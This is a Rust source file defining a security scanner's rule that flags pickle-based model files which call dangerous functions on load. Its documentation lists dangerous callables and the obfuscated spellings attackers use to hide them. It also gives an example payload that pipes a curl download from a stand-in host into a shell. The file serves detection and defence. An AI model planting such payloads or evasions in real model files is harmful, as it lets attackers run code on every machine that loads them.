//! MDL001: a pickle calls something known to be dangerous.

use palisade_core::{RuleMeta, Severity};

const DOC: &str = r#"
## What it does
Flags a pickle (a raw `.pkl`, a PyTorch checkpoint's `data.pkl`, a joblib file, a NumPy object
array …) that calls a function known to run commands, evaluate code, import modules, touch files
or the network, or load another pickle — `os.system`, `subprocess.Popen`, `builtins.eval`,
`builtins.getattr`, `importlib.import_module`, `pickle.loads`, `runpy._run_code`, … — or calls
something that cannot be known without running the file (the result of another call, an
extension-registry code, a name computed at load time).

The pickle is read symbolically, never executed: names built on the stack, memoised, fetched
through `getattr`/`operator.attrgetter`/`methodcaller`, passed to `copyreg._reconstructor` or
`functools.partial`, written in Python 2 spelling (`__builtin__`, `commands`) or through platform
modules (`posix.system`), or as dotted paths (`torch.serialization.os.system`) are all resolved
to what the loader would call.

## Why is this bad?
Loading a pickle *is* running it: `pickle.load`, `torch.load(weights_only=False)`,
`joblib.load` and `numpy.load(allow_pickle=True)` call these functions with these arguments
before returning the model. Whoever wrote the file runs code on every machine that loads it.

## Example
A checkpoint whose `data.pkl` does `REDUCE(posix.system, ('curl evil.sh | sh',))`.

## Use instead
Do not load the file. Get the model from its source in a format that stores only data
(safetensors, ONNX, GGUF), or load PyTorch checkpoints with `torch.load(…, weights_only=True)`.

## References
- Python docs, `pickle` — "Warning: The pickle module is not secure"
- MITRE ATLAS AML.T0011.000 User Execution: Unsafe AI Artifacts, AML.T0018.002 Embed Malware,
  AML.T0010.003 AI Supply Chain Compromise: Model; CWE-502
"#;

pub static RULE: RuleMeta = RuleMeta {
    code: "MDL001",
    name: "pickle-dangerous-call",
    severity: Severity::Critical,
    family: "model",
    summary: "Pickle calls a dangerous or unknowable callable when loaded",
    controls: &["cwe:CWE-502"],
    techniques: &["AML.T0011.000", "AML.T0018.002", "AML.T0010.003", "T1059"],
    fix: "do not load this file; obtain the model as safetensors/ONNX or load with weights_only=True",
    doc: DOC,
};
